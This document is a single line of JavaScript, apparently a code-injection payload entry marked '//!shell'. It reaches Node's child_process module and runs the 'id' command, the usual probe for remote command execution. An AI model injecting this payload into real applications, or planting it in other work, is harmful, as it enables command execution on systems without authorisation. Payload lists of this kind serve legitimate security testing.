[require('child_process')][0].execSync('id');  //!shell
